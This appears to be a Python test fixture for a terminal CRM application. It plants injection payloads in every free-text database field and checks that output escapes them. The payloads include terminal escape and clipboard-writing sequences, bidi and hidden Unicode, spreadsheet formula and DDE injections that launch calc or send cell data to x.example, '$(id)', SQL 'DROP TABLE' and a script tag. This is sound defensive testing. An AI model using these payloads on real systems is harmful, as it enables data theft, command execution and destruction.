"""Texts that a terminal, a markup reader or a spreadsheet would obey; made here by kind, and put past all cleaning."""

import json
import unicodedata
from collections.abc import Iterable, Mapping, Sequence
from typing import Final

from crm_tui.core.fields import Value
from crm_tui.core.i18n import N_
from crm_tui.store.db import Database, Writer

_ESC, _BEL, _ST = "\x1b", "\x07", "\x1b\\"
_FORMULA: Final = 'HYPERLINK("http://x.example/?"&A1,"pay")'
#: By kind; each begins with a letter of its own, so that it is seen that it came through at all.
PAYLOADS: Final[Mapping[str, Sequence[str]]] = {
    "csi": [f"a{_ESC}[31mred{_ESC}[0m", f"b{_ESC}[2J{_ESC}[Hwiped", f"c{_ESC}[?1049h", f"d{_ESC}[6n", f"e{_ESC}[20;1t"],
    "osc": [
        f"f{_ESC}]0;title{_BEL}",
        f"g{_ESC}]8;;https://x.example{_ST}link{_ESC}]8;;{_ST}",
        f"h{_ESC}]52;c;c3RvbGVu{_BEL}",
    ],
    "dcs": [
        f"i{_ESC}Pq#0;2;0;0;0{_ST}",
        f"j{_ESC}_G a=T{_ST}",
        f"k{_ESC}^pm{_ST}",
        f"l{_ESC}Xsos{_ST}",
        f'm{_ESC}P$q"p{_ST}',
    ],
    "c1": ["n\x9b31mone", "o\x9d0;title\x9c", "p\x90q\x9c", "q\x85next", "r\x84\x8d\x8e\x8f"],
    "c0": [
        "s\b\b\bback",
        "t\roverwritten",
        "u\x0bdown\x0cfeed",
        "v\x00nul\x7fdel",
        "w\x0e\x0fshift\x05\x1a",
        "x\ttab\nline",
    ],
    "bidi": [
        "y\u202eevil\u202c",
        "z\u2066iso\u2069\u2067iso\u2069",
        "A\u202aemb\u202b\u202d",
        "B\u200emark\u200f\u061c",
    ],
    "hidden": [
        "C\u200bzero\u2060\ufeff",
        "D\U000e0041\U000e0062\U000e007f",
        "E\u00adsoft\u180e",
        "F\u2028line\u2029par",
        "G\ufff9a\ufffab\ufffb",
    ],
    "markup": [
        "H[@click=app.quit]x[/]",
        "I[link=https://x.example]here[/link]",
        "J[/x] [bold",
        "K[on red]x[/]",
        "L[@click='app.bell']y[/]\\[",
    ],
    "combining": [f"M{chr(0x351) * 60}", f"N{chr(0x30A)}{chr(0x20DD)}{chr(0x489)}" * 20, "O\u200d\u200d\ufe0f\ufe0e"],
    "formula": [
        f"={_FORMULA}",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        '=DDE("cmd";"/C calc";"x")',
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        "%0A-3+3",
        "\n=1+1",
        ";=1+1",
        ",=1+1",
        '"=1+1',
    ],
    "other": [
        "P{name} {0} %s ${HOME} $(id) `id`",
        "Q'; DROP TABLE sale; --",
        "R<script>alert(1)</script>&amp;",
        "S|pipe\\|",
        "T" * 300,
        "宽" * 150,
    ],
}
#: What a spreadsheet takes for the beginning of a formula.
_STARTS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ALL: Final = [text for texts in PAYLOADS.values() for text in texts]
#: Columns of free text; what the store keeps in a form of its own (days, codes, states) is none.
COLUMNS: Final = {
    "waiting_payment": ("method", "payer", "account", "reference", "note"),
    "payer": ("name", "account"),
    "customer_merge": ("absorbed_name",),
    "followup": ("assignee", "subject", "note", "outcome"),
    "interaction": ("who", "text"),
    "ticket_event": ("actor", "note"),
    "ticket": (
        "subject",
        "words",
        "person",
        "channel",
        "place",
        "assignee",
        "helpers",
        "resolution",
        "cause",
        "lesson",
    ),
    "sale": ("category", "staff", "channel", "country", "region", "city", "note"),
    "payment": ("method", "reference", "note"),
    "movement": ("note",),
    "consent": ("source",),
    "custom_value": ("value",),
    "custom_field": ("label",),
    "key_date": ("label", "note"),
    "person": ("name", "role", "phone", "email", "wechat", "note"),
    "customer_tag": ("tag",),
    "customer_address": ("label", "country", "region", "city", "address", "postcode"),
    "customer_email": ("label", "email"),
    "customer_phone": ("label", "number"),
    "customer": (
        "name",
        "short_name",
        "wechat",
        "website",
        "contact",
        "industry",
        "business_mode",
        "source",
        "channel",
        "owner",
        "hobbies",
        "honours",
        "deeds",
        "history",
        "note",
    ),
    "product": ("name", "category", "subcategory", "unit", "barcode", "note"),
    "expense": ("source", "channel", "note"),
    "followup_instance": ("outcome",),
    "month_close": ("closed_by",),
    "batch": ("file",),
    "rejected_row": ("column", "value"),
    "mapping": ("name",),
    "saved_report": ("name",),
    "report_set": ("name",),
}
#: What records are called by and lines are put together by, of every so many rows only: tests name the others.
CODES: Final = {
    "customer": ("code", 9),
    "product": ("sku", 9),
    "ticket": ("number", 9),
    "custom_field": ("name", 1),
    "sale": ("receipt", 97),
}
#: What a shop may lack.
LACKING: Final[Mapping[str, Mapping[str, Value]]] = {
    "saved_report": {"name": "s", "report": "monthly", "params": "{}"},
    "report_set": {"name": "s", "reports": "[]"},
    "mapping": {"noun": "sales", "name": "m", "fields": "{}"},
    "payer": {"customer_id": 1, "key": "k", "name": "p"},
    "waiting_payment": {"day": "2024-05-14", "amount": 100, "state": "waiting", "identity": "i", "occurrence": 1},
    "customer_merge": {"survivor_id": 1, "absorbed_id": 999, "absorbed_code": "C9", "absorbed_name": "n", "op_id": 1},
}
#: What may be there once only stays as it is where it would be there twice.
_ONCE: Final = {"customer_tag": "OR IGNORE"}
#: Of the largest tables not every row: that takes seconds, and no more of it is seen.
_STEP: Final = {"sale": 3, "movement": 3}
_CHOSEN: Final = "json_extract(:texts, '$[' || ((id + {at} * 11) % :count) || ']')"


def plant(db: Database, texts: Sequence[str] = ALL) -> None:
    """Every free text of every record becomes one of the texts."""
    from crm_tui.store import search

    with db.write("settings", N_("Settings")) as w:
        for table, values in LACKING.items():
            w.insert(table, values)
        for table, columns in COLUMNS.items():
            chosen = ", ".join(f"{name} = {_CHOSEN.format(at=at)}" for at, name in enumerate(columns))
            _put(
                w,
                f"UPDATE {_ONCE.get(table, '')} {table} SET {chosen} WHERE id % :step = 0",
                texts,
                step=_STEP.get(table, 1),
            )
        for table, (name, step) in CODES.items():
            sql = f"UPDATE OR IGNORE {table} SET {name} = {_CHOSEN.format(at=0)} WHERE id % :step = :step - 1"
            _put(w, sql, texts, step=step)
        params = f"json_group_object(key, iif(type = 'text', {_CHOSEN.format(at=1)}, json(value)))"
        _put(w, f"UPDATE operation SET actor = :first, params = (SELECT {params} FROM json_each(params))", texts,
             first=texts[0])  # fmt: skip
        w.execute("UPDATE setting SET value = :name WHERE name = 'shop.name'", name=texts[-1])
        search.rebuild(w)


def _put(w: Writer, sql: str, texts: Sequence[str], **params: Value) -> None:
    w.execute(sql, texts=json.dumps(texts), count=len(texts), **params)


def not_for_a_terminal(text: str) -> set[str]:
    """The characters that no terminal may be sent: controls, bidirectional and hidden ones; line feeds may."""
    return {char for char in text if char not in "\n\u200c\u200d" and _is_bad(char)}


def _is_bad(char: str) -> bool:
    return unicodedata.category(char) in {"Cc", "Cf", "Cs", "Zl", "Zp"} or char == "\ufeff"


def formulas(cells: Iterable[str]) -> list[str]:
    """The cells that a spreadsheet would run; numbers are none."""
    return [cell for cell in cells if cell.startswith(_STARTS) and not _is_number(cell)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
